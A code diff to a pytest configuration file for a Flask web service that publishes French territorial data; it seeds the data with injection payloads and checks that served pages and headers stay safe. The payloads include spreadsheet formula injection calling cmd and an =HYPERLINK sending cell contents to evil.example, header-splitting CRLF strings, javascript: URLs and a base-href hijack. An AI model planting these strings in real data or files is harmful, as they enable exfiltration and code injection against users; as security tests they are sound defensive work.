@@ -4,14 +4,19 @@ from __future__ import annotations
 
 import copy
 import dataclasses
+import itertools
+import json
 import logging
 import re
 import threading
 from collections.abc import Callable, Iterator
 from contextlib import contextmanager
+from html.parser import HTMLParser
 from pathlib import Path
 from typing import Any
+from urllib.parse import urljoin, urlsplit
 
+import brotli
 import pytest
 from werkzeug.serving import make_server
 
@@ -32,10 +37,10 @@ ATTACKS = (
     f"@SUM(1+1)*cmd{IMAGE}\r\nSet-Cookie: pwned=1\r\n\r\n",
     f"+1+1\x00\x01\x07\x1b[31m\x7f\x85{SCRIPT}",
     f"-2+3+cmd|' /C calc'!A0`${{window.pwned=1}}`{PRODUCT}",
-    f"\t=HYPERLINK(\"http://evil.example/?x=\"&A1){IMAGE}",
+    f'\t=HYPERLINK("http://evil.example/?x="&A1){IMAGE}',
     "javascript:window.pwned=1//'\"><base href=http://evil.example/>",
     f"{IMAGE}" + "é\u0301" * 2000 + "W" * 2000,
-    "\\\";window.pwned=1;//</textarea></title></style><style>*{background:url(//evil.example)}",
+    '\\";window.pwned=1;//</textarea></title></style><style>*{background:url(//evil.example)}',
     f"😀𝒳\U000e0041{SCRIPT}",
 )
 """Each is put before or in place of texts of the result."""
@@ -52,18 +57,16 @@ _CODED = re.compile(
     r"^(?P<head>(?:commune|epci|departement|region|qpv|zonage):)?(?P<code>[0-9A-Z]{2,14})"
     r"(?P<tail>-\d+m)?$"
 )
-_KEYS = frozenset(
-    "structure_id finess finess_ej siret zone_id code commune communes epci departement region qpv"
-    " territory record".split()
+_KEYS = re.compile(
+    r"structure_id|finess|finess_ej|siret|zone_id|code|communes?|epci|departement|region|qpv"
+    r"|territory|record"
 )
 """Columns whose values name a row elsewhere: the same code becomes the same everywhere."""
-_CHOSEN = frozenset(
-    "kind category position geocoder open in_qpv near_declared zone_class zonage zone_kind repair"
-    " indicator scope definition unit outcome series class_label class_label_en"
-    " near_proxy_300m near_proxy_500m".split()
+_CHOSEN = re.compile(
+    r"kind|category|position|geocoder|open|in_qpv|near_\w+|zone_class|zonage|zone_kind|repair"
+    r"|indicator|scope|definition|unit|outcome|series|class_label|class_label_en"
 )
-"""Columns of a few known words: one row in seven has an unknown one, so that both ways are taken."""
-_KEPT = frozenset({"level"})
+"""Columns of a few known words: one row in seven has an unknown one."""
 _OWN = ("source", "layout", "vintage_basis")
 """Names of this package's readers and literals of its types: no file gives them."""
 
@@ -80,14 +83,16 @@ def _attacked(table: Any) -> Any:
     """The table with every text replaced."""
     table = table.copy()
     for place, column in enumerate(table.columns):
-        if str(table[column].dtype) not in ("str", "object") or column in _KEPT:
+        if str(table[column].dtype) not in ("str", "object") or column == "level":
             continue
         old = table[column].astype("object").where(table[column].notna(), None)
-        if column in _KEYS:
+        if _KEYS.fullmatch(column):
             new = [None if it is None else " ".join(map(_code, it.split())) for it in old]
-        elif column in _CHOSEN:
+        elif _CHOSEN.fullmatch(column):
+            # This package's own words; as attributes of a page they hold no control characters.
+            attacks = [re.sub(r"[\x00-\x1f]", "", text) for text in ATTACKS]
             new = [
-                ATTACKS[row % len(ATTACKS)] if row % 7 == 3 and it is not None else it
+                attacks[row % len(attacks)] if row % 7 == 3 and it is not None else it
                 for row, it in enumerate(old)
             ]
         else:
@@ -194,12 +199,6 @@ def hostile_service(hostile_file: Path) -> Iterator[str]:
         yield address
 
 
-@pytest.fixture(scope="session")
-def attacks() -> tuple[str, ...]:
-    """The texts that the hostile result is made of."""
-    return ATTACKS
-
-
 @pytest.fixture
 def recode() -> Callable[[str], str]:
     """What became of a code of the sample in the hostile result."""
@@ -269,3 +268,131 @@ def hostile_visit(_refusing: Any, hostile_service: str) -> Iterator[Visit]:
     tab = Visit(_refusing.new_page(), hostile_service)
     yield tab
     tab.page.close()
+
+
+_HOST = "http://localhost"
+_OUTSIDE = {"leafletjs.com", "spec.openapis.org", "www.opengis.net"}
+"""Hosts that pages name by themselves."""
+_RUN = "9801547"  # what a template engine would make of the product that stands in the texts
+_FORBIDDEN = {"base", "object", "embed", "applet", "meta-refresh", "img"}
+_ADDRESSES = {"href", "src", "action", "formaction", "data", "xlink:href", "srcdoc", "ping"}
+
+
+class Inspected(HTMLParser):
+    """What a page holds that could run, and where it leads."""
+
+    def __init__(self, page: str, styled: bool = False) -> None:
+        super().__init__(convert_charrefs=True)
+        self.bad: list[str] = []
+        self.links: set[str] = set()
+        self.outside: set[str] = set()
+        self._styled = styled
+        self.feed(page)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        given = {name: value or "" for name, value in attrs}
+        told = f"<{tag} {str(given)[:200]}>"
+        own = tag == "script" and ("src" in given or given.get("type") == "application/json")
+        inline = tag in ("script", "style") and not own and not self._styled
+        if inline or tag in _FORBIDDEN or "http-equiv" in given:
+            self.bad.append(told)
+        for name, value in given.items():
+            if name.startswith("on") or (name == "style" and not self._styled):
+                self.bad.append(told)
+            if name in _ADDRESSES:
+                scheme = urlsplit(value.strip().lower()).scheme
+                if scheme not in ("", "http", "https", "mailto") or value.startswith("//"):
+                    self.bad.append(told)
+                elif scheme:
+                    self.outside.add(urlsplit(value).netloc)
+                elif tag != "form" and name in ("href", "src"):
+                    self.links.add(value.partition("#")[0])
+
+
+class Visitor:
+    """A client from another address each time, so that no limit of requests stops the tests."""
+
+    def __init__(self, path: Path) -> None:
+        self.app = create_app(path)
+        self._client = self.app.test_client()
+        self._number = itertools.count(1)
+
+    def ask(self, address: str, method: str = "GET", **more: Any) -> Any:
+        number = next(self._number)
+        environ = {
+            "REMOTE_ADDR": f"10.{number >> 16}.{number >> 8 & 255}.{number & 255}",
+            **more.pop("environ", {}),
+        }
+        return self._client.open(
+            address, method=method, environ_overrides=environ, buffered=True, **more
+        )
+
+    def endpoint(self, address: str) -> str:
+        """Endpoint of an address; empty where there is none."""
+        adapter = self.app.url_map.bind("localhost")
+        try:
+            return str(adapter.match(urlsplit(urljoin(_HOST, address)).path)[0])
+        except Exception:  # a redirect, or nothing there
+            return ""
+
+    def address(self, endpoint: str, **values: Any) -> str:
+        with self.app.test_request_context():
+            from flask import url_for
+
+            return url_for(endpoint, **values)
+
+    def check(self, answer: Any, address: str) -> set[str]:
+        """Fail if an answer could run anything; gives the addresses that it names."""
+        assert answer.status_code < 500, address
+        body = answer.get_data()
+        if answer.headers.get("Content-Encoding") == "br":
+            body = brotli.decompress(body)
+        assert _RUN.encode() not in body, address
+        assert answer.headers["X-Content-Type-Options"] == "nosniff"
+        assert "unsafe" not in answer.headers["Content-Security-Policy"]
+        for name, value in answer.headers.items():
+            assert "\r" not in value, (address, name)
+            assert "\n" not in value, (address, name)
+            assert "pwned" not in name.lower(), address
+        if answer.mimetype == "text/html":
+            policy = answer.headers["Content-Security-Policy"]
+            found = Inspected(body.decode(), styled="'sha256-" in policy)
+            assert found.bad == [], address
+            assert found.outside - _OUTSIDE - {"localhost"} == set(), address
+            return found.links
+        if answer.mimetype.endswith("json"):
+            return set(_named(json.loads(body)))
+        return set()
+
+
+def _named(value: Any) -> Iterator[str]:
+    """Addresses in JSON, as programs would follow them."""
+    if isinstance(value, dict):
+        for name, member in value.items():
+            if name in ("href", "url", "@id", "link") and isinstance(member, str):
+                if not member.startswith(("javascript:", "https://x.example")):  # a source's own
+                    yield member
+            else:
+                yield from _named(member)
+    elif isinstance(value, list):
+        for member in value:
+            yield from _named(member)
+
+
+@pytest.fixture(scope="session")
+def hostile(hostile_file: Path) -> Visitor:
+    """A visitor of the hostile result, without a network."""
+    return Visitor(hostile_file)
+
+
+@pytest.fixture(scope="session")
+def plain(sample_file: Path) -> Visitor:
+    """A visitor of the sample, without a network."""
+    return Visitor(sample_file)
+
+
+@pytest.fixture(scope="session")
+def visitor_of() -> type[Visitor]:
+    """Makes a visitor of a result of one's own."""
+    return Visitor
